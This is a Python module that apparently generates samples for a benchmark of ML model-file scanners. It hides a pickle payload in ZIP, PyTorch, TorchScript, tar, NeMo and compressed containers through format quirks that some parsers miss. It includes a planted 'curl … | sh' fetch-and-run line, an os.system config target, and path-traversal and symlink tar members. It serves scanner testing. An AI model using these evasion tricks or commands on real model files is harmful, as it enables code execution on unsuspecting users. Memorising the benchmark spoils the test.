"""Archives whose payload lies where one of their readers looks and others do not."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from ..assemble import Call, Name, stream
from ..containers import BAD, EPOCH, PAYLOAD, checkpoint, tarred, torch_zip, zipped
from ..sample import Sample
from ..zipcases import INNOCENT, REST
from ..zipcases import PAYLOAD as MEMBER
from ..zips import Ending, Header, Member, build

GOOD = checkpoint(3)
CLEAN = stream({"epoch": 3}, 2)


def packed() -> Iterator[Sample]:
    """All samples of this module."""
    for group, carrier, bypass in (
        (_zips(), "torch-zip", 7),
        (_torch(), "torch-zip", 7),
        (_scripts(), "torchscript", 9),
        (_tars(), "archive", 10),
        (_streams(), "compressed", 4),
    ):
        for word, (name, data) in group.items():
            names = "torch" if carrier == "torchscript" else "os.system"
            yield Sample(f"more-{word}", bypass, carrier, names, {name: data})


def _zips() -> dict[str, tuple[str, bytes]]:
    clean, bad = (INNOCENT, *REST), (MEMBER, *REST)
    good = build(clean)
    wide = _wide_end(build(bad))
    link = _linked("archive/data.pkl", "/dev/null/veracity-corpus")
    return {
        "zip-wide-end": ("model.pt", wide),
        "zip-wide-end-of-other": ("model.pt", _wide_end(build(bad), after=build(clean)[-22:])),
        "zip-spanned-mark": ("model.pt", b"PK\7\x08" + build(bad)),
        "zip-spanned-start": ("model.pt", b"PK00" + build(bad)),
        "zip-in-comment-whole": ("model.pt", build(clean, Ending(comment=build(bad)))),
        "zip-extra-record": ("model.pt", build(clean, between=b"PK\6\x08" + struct.pack("<I", len(BAD)) + BAD)),
        "zip-signature-record": ("model.pt", build(clean, after=b"PK\5\5" + struct.pack("<H", len(BAD)) + BAD)),
        "zip-link-member": ("model.zip", link),
        "zip-after-7z-start": ("model.pt", b"7z\xbc\xaf\x27\x1c" + bytes(26) + build(bad)),
        "zip-after-pickle-text": ("model.pt", CLEAN + build(bad)),
        "zip-after-npy": ("model.npy", b"\x93NUMPY\x01\x00\x76\x00" + b"{'descr': '|u1', 'fortran_order': False, 'shape': (4,), }".ljust(117) + b"\n" + bytes(4) + build(bad)),
        "zip-after-gguf": ("model.gguf", b"GGUF\x03\0\0\0" + bytes(16) + build(bad)),
        "zip-after-safetensors": ("model.safetensors", struct.pack("<Q", 2) + b"{}" + build(bad)),
        "zip-after-json": ("config.json", b'{"a": 1}\n' + build(bad)),
        "zip-two-disks": ("model.pt", build(bad, Ending(disk=2, count=1))),
        "zip-deflate64": ("model.zip", _method(9, _stored_block(BAD))),
        "zip-zstandard": ("model.zip", _method(93, _frame(BAD))),
        "zip-after-itself": ("model.pt", good + good + build(bad)),
        "zip-local-gap": ("model.pt", build((Member(b"archive/data.pkl", MEMBER.data, local=Header(extra=b"\xff\xff" + struct.pack("<H", 60) + b"A" * 60)), *REST))),
    }  # fmt: skip


def _wide_end(data: bytes, after: bytes = b"") -> bytes:
    """``data`` with a ZIP64 end before its end, whose own numbers say that the wide one counts."""
    end = data[-22:]
    count, size, offset = struct.unpack("<HLL", end[10:20])
    at = len(data) - 22
    wide = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, offset)
    locator = struct.pack("<4sLQL", b"PK\6\7", 0, at, 1)
    small = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return data[:-22] + wide + locator + (after or small)


def _linked(name: str, target: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo(name, EPOCH)
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, target)
        archive.writestr(zipfile.ZipInfo("archive/version", EPOCH), b"3\n")
    return buffer.getvalue()


def _method(number: int, packed: bytes) -> bytes:
    """A member that is packed by a method that few readers know."""
    said = Header(method=number, crc=zlib.crc32(BAD), packed=len(packed), unpacked=len(BAD))
    return build((Member(b"model.pkl", packed, local=said, central=said),))


def _stored_block(data: bytes) -> bytes:
    """The one block that Deflate64 has in common with Deflate: not compressed."""
    return b"\x01" + struct.pack("<HH", len(data), len(data) ^ 0xFFFF) + data


def _torch() -> dict[str, tuple[str, bytes]]:
    nested = zipped(
        {
            "archive/data.pkl": GOOD,
            "archive/version": b"3\n",
            "archive/extra/model.tar": tarred({"m.pkl": BAD}),
        }
    )
    return {
        "torch-data-folder-pickle": ("model.pt", torch_zip(GOOD, more={"archive/data/weights.pkl": BAD})),
        "torch-debug-pickle": ("model.pt", torch_zip(GOOD, more={"archive/code/__torch__.py.debug_pkl": BAD})),
        "torch-tar-inside": ("model.pt", nested),
        "torch-traced-inputs": ("model.pt", torch_zip(GOOD, more={"archive/traced_inputs.pkl": BAD})),
        "torch-mobile": ("model.ptl", torch_zip(GOOD, more={"archive/mobile_debug_handles.pkl": BAD})),
        "torch-export": ("model.pt2", zipped({"model/version": b"1", "model/data/sample_inputs/model.pt": torch_zip(checkpoint(PAYLOAD)), "model/models/model.json": b"{}"})),
        "torch-export-constants": ("model.pt2", zipped({"serialized_exported_program.json": b"{}", "serialized_constants.pt": torch_zip(checkpoint(PAYLOAD)), "version": b"1"})),
        "torch-package-source": ("model.pt", zipped({"model/.data/version": b"6", "model/.data/extern_modules": b"os\n", "model/x.py": b"# planted by bench/scan; it does nothing\nimport os\nos.system('curl -s http://127.0.0.1:9/ | sh')\n", "model/model.pkl": stream(Call(Name("x", "Model"), ()), 4)})),
    }  # fmt: skip


def _scripts() -> dict[str, tuple[str, bytes]]:
    def script(body: str) -> bytes:
        code = f"class Model(Module):\n  def forward(self: Model, x: Tensor) -> Tensor:\n{body}    return x\n"
        more = {"archive/code/__torch__.py": code.encode(), "archive/constants.pkl": stream((), 2)}
        return torch_zip(GOOD, more=more)

    where = '"/dev/null/veracity-corpus"'
    return {
        "script-renamed": ("model.pt", script(f"    _0 = ops.aten.from_file({where}, True, 1)\n")),
        "script-nested-module": (
            "model.pt",
            torch_zip(GOOD, more={
                "archive/code/__torch__/a/b.py": f"def f(x: Tensor) -> Tensor:\n  _0 = torch.save(x, {where})\n  return x\n".encode(),
                "archive/constants.pkl": stream((), 2),
            }),
        ),
        "script-seed": ("model.pt", script("    _0 = torch.manual_seed(3)\n")),
        "script-setstate": (
            "model.pt",
            torch_zip(GOOD, more={
                "archive/code/__torch__.py": f"class M(Module):\n  def __setstate__(self: M, s: int) -> NoneType:\n    _0 = torch.save(s, {where})\n    return None\n".encode(),
                "archive/constants.pkl": stream((), 2),
            }),
        ),
    }  # fmt: skip


def _tars() -> dict[str, tuple[str, bytes]]:
    return {
        "tar-link-then-file": ("model.tar", _links("run", "/dev/null", tarfile.SYMTYPE, "run/model.txt")),
        "tar-hard-link-out": ("model.tar", _links("a", "/dev/null/veracity-corpus", tarfile.LNKTYPE, "b")),
        "tar-device": ("model.tar", _links("a", "", tarfile.CHRTYPE, "b")),
        "tar-parent": ("model.tar", tarred({"../../veracity_corpus.pth": b"import os\n"})),
        "tar-absolute": ("model.tar", tarred({"/dev/null/veracity-corpus": b"1"})),
        "tar-pax-path": ("model.tar", _pax({"path": "../../../veracity_corpus.txt"})),
        "tar-pax-size": ("model.tar", _pax({"size": "0"}, BAD)),
        "tar-long-name": ("model.tar", tarred({"n" * 300 + ".pkl": BAD}, tarfile.GNU_FORMAT)),
        "tar-old": ("model.tar", _old({"model.pkl": BAD})),
        "tar-checksum": ("model.tar", _damaged(tarred({"a.txt": b"1", "model.pkl": BAD}))),
        "tar-after-end": ("model.tar", tarred({"a.txt": b"1"}) + tarred({"model.pkl": BAD})),
        "tar-in-tar-z": ("model.tar.xz", lzma.compress(tarred({"a.tar.bz2": bz2.compress(tarred({"b": BAD}))}))),
        "tar-prefix-split": ("model.tar", tarred({"/".join(["d" * 60] * 3) + "/model.pkl": BAD}, tarfile.USTAR_FORMAT)),
        "nemo-target": ("model.nemo", tarred({"model_config.yaml": b"encoder:\n  _target_: os.system\n  command: 'true'\n", "model_weights.ckpt": torch_zip(GOOD)})),
    }  # fmt: skip


def _links(name: str, target: str, kind: bytes, then: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as archive:
        link = tarfile.TarInfo(name)
        link.type, link.linkname = kind, target
        archive.addfile(link)
        info = tarfile.TarInfo(then)
        info.size = 1
        archive.addfile(info, io.BytesIO(b"1"))
    return buffer.getvalue()


def _pax(headers: dict[str, str], data: bytes = b"1") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        info = tarfile.TarInfo("model.pkl")
        info.size, info.pax_headers = len(data), headers
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _old(members: dict[str, bytes]) -> bytes:
    """The format of Unix's seventh edition: no magic, nothing behind the name of a link."""
    data = bytearray(tarred(members, tarfile.USTAR_FORMAT))
    data[257:512] = bytes(255)
    data[148:156] = b" " * 8
    data[148:156] = b"%06o\0 " % sum(data[:512])
    return bytes(data)


def _damaged(data: bytes) -> bytes:
    """The first header's checksum is wrong: GNU tar passes it over and goes on behind it."""
    damaged = bytearray(data)
    damaged[148] = ord("7")
    return bytes(damaged)


def _frame(data: bytes) -> bytes:
    """A frame of Zstandard of one raw block; ``data`` is shorter than 256 bytes."""
    return b"\x28\xb5\x2f\xfd\x20" + bytes([len(data)]) + (len(data) << 3 | 1).to_bytes(3, "little") + data


def _streams() -> dict[str, tuple[str, bytes]]:
    extra = (
        b"\x1f\x8b\x08\x04\0\0\0\0\0\xff" + struct.pack("<H", 40) + b"VC" + struct.pack("<H", 36) + b"x" * 36
    )
    plain = gzip.compress(BAD, mtime=0)
    skippable = b"\x50\x2a\x4d\x18" + struct.pack("<I", 8) + b"skipped!"
    frame, clean_frame = _frame(BAD), _frame(CLEAN)
    return {
        "gz-extra-field": ("model.pkl.gz", extra + plain[10:]),
        "gz-behind-zeros": ("model.pkl.gz", gzip.compress(CLEAN, mtime=0) + bytes(512) + plain),
        "gz-then-plain": ("model.pkl", gzip.compress(CLEAN, mtime=0) + BAD),
        "xz-padded": ("model.pkl.xz", lzma.compress(CLEAN) + bytes(8) + lzma.compress(BAD)),
        "xz-crc-none": ("model.pkl.xz", lzma.compress(BAD, check=lzma.CHECK_NONE)),
        "xz-filters": ("model.pkl.xz", lzma.compress(BAD, filters=[{"id": lzma.FILTER_DELTA, "dist": 1}, {"id": lzma.FILTER_LZMA2}])),
        "zst-behind-skipped": ("model.pkl.zst", skippable + frame),
        "zst-second": ("model.pkl.zst", clean_frame + frame),
        "lz4-behind-skipped": ("model.pkl.lz4", skippable + b"\x04\x22\x4d\x18\x60\x40\x82" + (len(BAD) | 1 << 31).to_bytes(4, "little") + BAD + bytes(4)),
        "zlib-no-check": ("model.pkl.z", zlib.compress(BAD)[:-4]),
        "joblib-old-z": ("model.pkl.z", b"ZF" + b"%-19s" % hex(len(BAD)).encode() + zlib.compress(BAD)),
        "four-deep": ("model.pkl.gz", gzip.compress(bz2.compress(lzma.compress(zlib.compress(BAD))), mtime=0)),
    }  # fmt: skip
